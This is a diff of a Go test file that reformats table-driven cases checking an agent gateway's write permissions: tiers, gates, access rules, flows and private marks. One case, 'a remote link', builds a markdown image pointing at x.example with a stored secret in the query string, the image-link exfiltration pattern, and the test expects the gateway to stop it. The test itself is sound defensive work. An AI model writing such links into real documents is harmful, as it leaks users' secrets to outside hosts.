@@ -178,10 +178,11 @@ func TestAGrantAnswersNoOtherQuestion(t *testing.T) {
 		words   []string
 		code    string
 	}{
-		"a closed tier":  {func(c *gateway.Config) { c.Policy.Ceiling = tiers.V0 }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "tier_closed"},
-		"a closed gate":  {func(c *gateway.Config) { c.Policy.Mutations = false }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "mutations_off"},
-		"a disabled one": {func(c *gateway.Config) { c.Policy.Disable = []string{"append"} }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "command_disabled"},
-		"no grants":      {func(c *gateway.Config) { c.Policy.MaxGrant = 0 }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "unconfirmed"},
+		"a closed tier": {func(c *gateway.Config) { c.Policy.Ceiling = tiers.V0 }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "tier_closed"},
+		"a closed gate": {func(c *gateway.Config) { c.Policy.Mutations = false }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "mutations_off"},
+		"a disabled one": {func(c *gateway.Config) { c.Policy.Disable = []string{"append"} }, nil,
+			[]string{"append", "path=Projects/a.md", "content=x"}, "command_disabled"},
+		"no grants": {func(c *gateway.Config) { c.Policy.MaxGrant = 0 }, nil, []string{"append", "path=Projects/a.md", "content=x"}, "unconfirmed"},
 		"an access rule": {func(c *gateway.Config) {
 			c.Policy.Access = require.Value(access.New(map[string]access.Level{"/": access.Delete, "Projects": access.Read}))(t)
 		}, nil, []string{"append", "path=Projects/a.md", "content=x"}, "access_denied"},
@@ -192,7 +193,10 @@ func TestAGrantAnswersNoOtherQuestion(t *testing.T) {
 		"a flow": {func(c *gateway.Config) {
 			c.Policy.Flows = []policy.Flow{{Name: "f", From: []string{"Other"}, To: []string{"Projects"}}}
 		}, func(w granted) { w.call("read", "path=Other/o.md") }, []string{"append", "path=Projects/a.md", "content=x"}, "unconfirmed"},
-		"a remote link": {nil, func(w granted) { w.Write("Other/long.md", secret) }, []string{"append", "path=Projects/a.md", "content=![](https://x.example/?q=" + strings.ReplaceAll(strings.TrimSpace(secret), " ", "+") + ")"}, "unconfirmed"},
+		"a remote link": {nil, func(w granted) { w.Write("Other/long.md", secret) },
+			[]string{"append", "path=Projects/a.md",
+				"content=![](https://x.example/?q=" + strings.ReplaceAll(strings.TrimSpace(secret), " ", "+") + ")"},
+			"unconfirmed"},
 		"a private mark": {func(c *gateway.Config) { c.Policy.Private = access.Private{Properties: []string{"agent"}} }, func(w granted) {
 			w.Write("Projects/a.md", "---\nagent: rw\n---\none\n")
 		}, []string{"append", "path=Projects/a.md", "content=x"}, "unconfirmed"},
